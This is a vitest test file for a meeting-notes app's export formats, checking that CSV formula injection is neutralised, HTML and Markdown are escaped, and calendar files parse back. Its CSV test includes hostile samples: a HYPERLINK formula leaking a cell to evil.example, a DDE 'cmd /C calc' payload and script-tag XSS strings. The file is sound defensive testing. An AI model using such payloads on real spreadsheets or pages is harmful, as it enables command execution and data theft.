// Golden-file tests of every export format, plus the safety properties that must hold whatever
// the golden files say: CSV injection neutralised, HTML escaped, iCalendar parses back.
// Regenerate the golden files after an intended change with `npx vitest run test/exports -u`.

import { describe, expect, it } from 'vitest';
import ICAL from 'ical.js';
import nodeIcal from 'node-ical';
import {
  actionsToCsv,
  actionsToICalendar,
  actionsToJson,
  actionsToMarkdown,
  exportActions,
  exportFileName,
  notesToHtml,
  notesToMarkdown,
} from '../../shared/exports/index.js';
import { actions, exportOptions, notes } from './fixtures.js';

/** A strict RFC 4180 reader, so the test checks the CSV a spreadsheet would see. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i += 2;
      } else if (ch === '"') {
        quoted = false;
        i += 1;
      } else {
        field += ch;
        i += 1;
      }
    } else if (ch === '"' && field === '') {
      quoted = true;
      i += 1;
    } else if (ch === ',') {
      row.push(field);
      field = '';
      i += 1;
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i += 2;
    } else if (ch === '\r' || ch === '\n' || ch === '"') {
      throw new Error(`bare ${JSON.stringify(ch)} outside quotes at ${i}`);
    } else {
      field += ch;
      i += 1;
    }
  }
  if (quoted || field !== '' || row.length > 0) throw new Error('unterminated record');
  return rows;
}

describe('actions exports match the golden files', () => {
  it('CSV', async () => {
    await expect(actionsToCsv(actions, exportOptions)).toMatchFileSnapshot('./golden/actions.csv');
  });
  it('Markdown', async () => {
    await expect(actionsToMarkdown(actions, exportOptions)).toMatchFileSnapshot('./golden/actions.md');
  });
  it('JSON', async () => {
    await expect(actionsToJson(actions)).toMatchFileSnapshot('./golden/actions.json');
  });
  it('iCalendar tasks', async () => {
    await expect(actionsToICalendar(actions, { ...exportOptions, calendarName: 'DMLT actions' })).toMatchFileSnapshot(
      './golden/actions.ics',
    );
  });
  it('iCalendar feed events', async () => {
    const open = actions.filter((a) => !a.done);
    await expect(
      actionsToICalendar(open, { style: 'event', calendarName: 'My Quorum actions', refreshMinutes: 60 }),
    ).toMatchFileSnapshot('./golden/feed.ics');
  });
});

describe('notes exports match the golden files', () => {
  it('Markdown', async () => {
    await expect(notesToMarkdown(notes, exportOptions)).toMatchFileSnapshot('./golden/notes.md');
  });
  it('HTML', async () => {
    await expect(notesToHtml(notes, exportOptions)).toMatchFileSnapshot('./golden/notes.html');
  });
});

describe('CSV', () => {
  const csv = actionsToCsv(actions, exportOptions);
  // A spreadsheet reads past the byte-order mark that tells it the file is UTF-8.
  const rows = parseCsv(csv.replace(/^\ufeff/, ''));
  const header = rows[0]!;
  const column = (name: string) => header.indexOf(name);

  it('is RFC 4180: CRLF records of equal width, a header, one row per action', () => {
    expect(csv.endsWith('\r\n')).toBe(true);
    // Marked as UTF-8, so that Excel does not read names in the system's legacy code page.
    expect(csv.startsWith('\ufeffId,')).toBe(true);
    expect(rows).toHaveLength(actions.length + 1);
    for (const row of rows) expect(row).toHaveLength(header.length);
    expect(rows.map((r) => r[column('Id')])).toEqual(['Id', ...actions.map((a) => a.id)]);
  });

  it('neutralises cells a spreadsheet would evaluate as formulas, keeping the text', () => {
    const descriptions = rows.slice(1).map((r) => r[column('Description')]!);
    for (const cell of descriptions) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(descriptions).toContain('\'=HYPERLINK("http://evil.example/?"&A1,"click") | <script>alert(1)</script>');
    expect(descriptions).toContain('\'+cmd|" /C calc"!A0');
    expect(descriptions).toContain("'-2+3+cmd");
    expect(descriptions).toContain("'@SUM(1+1)*cmd");
    expect(descriptions).toContain("'\tleading tab");
    // A line break or comma inside a cell survives quoting.
    expect(descriptions).toContain('multi\nline, text');
    // Raw handles start with @ too, as the assignee cell shows them.
    expect(rows[5]![column('Assignees')]).toBe("'@someone");
  });

  it('shows everyone as All and several assignees in one cell', () => {
    expect(rows[3]![column('Assignees')]).toBe('All');
    expect(rows[4]![column('Assignees')]).toBe("Wil O'Mullane; Gregory Dubois-Felsmann");
  });
});

describe('Markdown', () => {
  it('escapes pipes so hostile text cannot add table columns', () => {
    const md = actionsToMarkdown(actions, exportOptions);
    const lines = md.trimEnd().split('\n');
    const columns = (line: string) => line.replace(/\\\|/g, '').split('|').length;
    for (const line of lines) expect(columns(line)).toBe(columns(lines[0]!));
    expect(md).toContain('\\<script\\>');
    expect(md).toContain('[DM-29330](<https://tracker.example.org/browse/DM-29330>)');
  });

  it('keeps notes text from becoming markup and drops unsafe links', () => {
    const md = notesToMarkdown(notes, exportOptions);
    expect(md).toContain('\\# not a heading, \\*not bold\\*, \\<script\\>');
    expect(md).toContain('\\- not a list\\\n1\\. nor this');
    expect(md).not.toContain('javascript:');
    expect(md).toContain('- [x] deep done item');
    expect(md).not.toContain('this line was deleted');
  });

  it('writes a table of the notes as a GFM table whose cells cannot add columns', () => {
    const md = notesToMarkdown(notes, exportOptions);
    const lines = md.split('\n');
    const start = lines.indexOf('| Site | Owner | **Status** |');
    const table = lines.slice(start, lines.indexOf('', start));
    expect(table).toEqual([
      '| Site | Owner | **Status** |',
      '| --- | --- | --- |',
      '| Summit \\| Base | \\<script\\>alert(2)\\</script\\> | `a\\|b` |',
      '| two<br>lines | [the plan](<https://docs.example.org/plan>) | |',
    ]);
    const columns = (line: string) => line.replace(/\\\|/g, '').split('|').length;
    for (const line of table) expect(columns(line)).toBe(columns(table[0]!));
  });
});

describe('pre-meeting notes in the Markdown agenda', () => {
  it('keeps a blank line between paragraphs (one for a run of them), and no blank line at either end', () => {
    const [day] = notes.agenda;
    const item = { ...day!.blocks[0]!.items[0]!, preNotes: '\nSlides first\nthen the plan\n\n\n\nQuestions at the end\n\n' };
    const md = notesToMarkdown({ ...notes, agenda: [{ ...day!, blocks: [{ ...day!.blocks[0]!, items: [item] }] }] }, exportOptions);
    expect(md).toContain('| Slides first<br>then the plan<br><br>Questions at the end |');
  });
});

describe('HTML notes page', () => {
  const html = notesToHtml(notes, exportOptions);

  it('escapes hostile text everywhere it appears', () => {
    expect(html).not.toMatch(/<script/i);
    expect(html).toContain('&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;');
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(html).toContain('Guest &lt;b&gt;Bold&lt;/b&gt;');
    expect(html).not.toContain('<b>');
  });

  it('links only http(s) and mailto targets', () => {
    expect(html).not.toContain('javascript:');
    expect(html).toContain('<a href="https://docs.example.org/sheet?a=1&amp;b=2" rel="noopener noreferrer">the sheet</a>');
    expect(html).toContain('<a href="https://tracker.example.org/browse/DM-29330" rel="noopener noreferrer">DM-29330</a>');
  });

  it('is self-contained: no scripts, no external resources, a CSP forbidding both', () => {
    expect(html).not.toMatch(/<(script|link|img|iframe)\b/i);
    expect(html).toContain(`content="default-src 'none'; style-src 'unsafe-inline'"`);
  });

  it('shows logistics, agenda, running notes and the action summary without removed actions', () => {
    for (const text of ['America/Los_Angeles', 'Morning (moderator YA, notetaker KTL)', 'Tuesday 17 November 2020', 'Action item summary']) {
      expect(html).toContain(text);
    }
    expect(html).not.toContain('this line was deleted');
  });

  it('shows a table of the notes as a table, its header row in th cells, its text escaped', () => {
    const table = /<table class="notes-table">[\s\S]*?<\/table>/.exec(html)?.[0];
    expect(table).toBe(
      [
        '<table class="notes-table">',
        '<tr><th>Site</th><th>Owner</th><th><strong>Status</strong></th></tr>',
        '<tr><td>Summit | Base</td><td>&lt;script&gt;alert(2)&lt;/script&gt;</td><td><code>a|b</code></td></tr>',
        '<tr><td>two<br>lines</td><td><a href="https://docs.example.org/plan" rel="noopener noreferrer">the plan</a></td></tr>',
        '</table>',
      ].join('\n'),
    );
  });

  it('nests lists properly', () => {
    const opens = (html.match(/<(ul|ol)\b/g) ?? []).length;
    const closes = (html.match(/<\/(ul|ol)>/g) ?? []).length;
    expect(opens).toBe(closes);
    expect((html.match(/<li\b/g) ?? []).length).toBe((html.match(/<\/li>/g) ?? []).length);
  });
});

describe('iCalendar', () => {
  it('parses back: one task per action with its due date, state and stable uid', () => {
    const text = actionsToICalendar(actions, exportOptions);
    const calendar = new ICAL.Component(ICAL.parse(text));
    const todos = calendar.getAllSubcomponents('vtodo');
    expect(todos).toHaveLength(actions.length);
    todos.forEach((todo, index) => {
      const action = actions[index]!;
      expect(todo.getFirstPropertyValue('uid')).toBe(`${action.id}@quorum.actions`);
      expect(todo.getFirstPropertyValue('summary')).toBe(action.description);
      const due = todo.getFirstPropertyValue('due');
      expect(due ? String(due) : null).toBe(action.due);
      expect(todo.getFirstPropertyValue('status')).toBe(action.done ? 'COMPLETED' : 'NEEDS-ACTION');
    });
    // RFC 5545 3.1: content lines folded to at most 75 octets, continuation space included.
    for (const line of text.split('\r\n')) expect(new TextEncoder().encode(line).length).toBeLessThanOrEqual(75);
  });

  it('feed style places each dated action on its due day as an all-day event', () => {
    const calendar = new ICAL.Component(ICAL.parse(actionsToICalendar(actions, { style: 'event' })));
    const events = calendar.getAllSubcomponents('vevent').map((e) => new ICAL.Event(e));
    expect(events.map((e) => [e.uid, e.startDate.toString(), e.startDate.isDate, e.endDate.toString()])).toEqual([
      ['a1fritzsheet@quorum.actions', '2021-01-15', true, '2021-01-16'],
      ['a2ktlgraph@quorum.actions', '2022-03-18', true, '2022-03-19'],
      ['a4hostile@quorum.actions', '2020-12-07', true, '2020-12-08'],
    ]);
  });
});

describe('iCalendar read by an independent parser (node-ical)', () => {
  /** node-ical gives date-only values as local midnight. */
  const day = (date: Date | undefined) =>
    date ? `${date.getFullYear()}-${String(date.getMonth() + 1).padStart(2, '0')}-${String(date.getDate()).padStart(2, '0')}` : null;

  it('reads every task with its uid, summary, date-only due date and status', () => {
    const parsed = Object.values(nodeIcal.sync.parseICS(actionsToICalendar(actions, exportOptions)));
    const todos = parsed.filter((c): c is nodeIcal.VTodo => c?.type === 'VTODO');
    expect(todos.map((t) => [t.uid, t.summary, day(t.due), t.due?.dateOnly ?? null, t.status])).toEqual(
      actions.map((a) => [`${a.id}@quorum.actions`, a.description, a.due, a.due ? true : null, a.done ? 'COMPLETED' : 'NEEDS-ACTION']),
    );
  });

  it('reads the feed as all-day events on the due dates', () => {
    const parsed = Object.values(nodeIcal.sync.parseICS(actionsToICalendar(actions, { style: 'event', refreshMinutes: 60 })));
    const events = parsed.filter((c): c is nodeIcal.VEvent => c?.type === 'VEVENT');
    expect(events.map((e) => [e.uid, day(e.start), e.datetype, day(e.end)])).toEqual([
      ['a1fritzsheet@quorum.actions', '2021-01-15', 'date', '2021-01-16'],
      ['a2ktlgraph@quorum.actions', '2022-03-18', 'date', '2022-03-19'],
      ['a4hostile@quorum.actions', '2020-12-07', 'date', '2020-12-08'],
    ]);
  });
});

describe('iCalendar line folding', () => {
  it('never splits a multi-byte character and unfolds to the original text', () => {
    const description = 'Überprüfung der Maßnahmen — 検証計画を共有する 🚀 '.repeat(6);
    const text = actionsToICalendar([{ ...actions[0]!, description }]);
    for (const line of text.split('\r\n')) expect(new TextEncoder().encode(line).length).toBeLessThanOrEqual(75);
    const todo = new ICAL.Component(ICAL.parse(text)).getFirstSubcomponent('vtodo')!;
    expect(todo.getFirstPropertyValue('summary')).toBe(description);
  });
});

describe('exportActions', () => {
  it('gives each format its media type and extension', () => {
    expect(exportActions('csv', []).contentType).toMatch(/^text\/csv/);
    expect(exportActions('ics', []).extension).toBe('ics');
    expect(JSON.parse(exportActions('json', actions).body).items).toHaveLength(actions.length);
    expect(exportFileName('Leadership Team Virtual Face-to-Face', 'actions', 'csv')).toBe(
      'leadership-team-virtual-face-to-face-actions.csv',
    );
  });
});
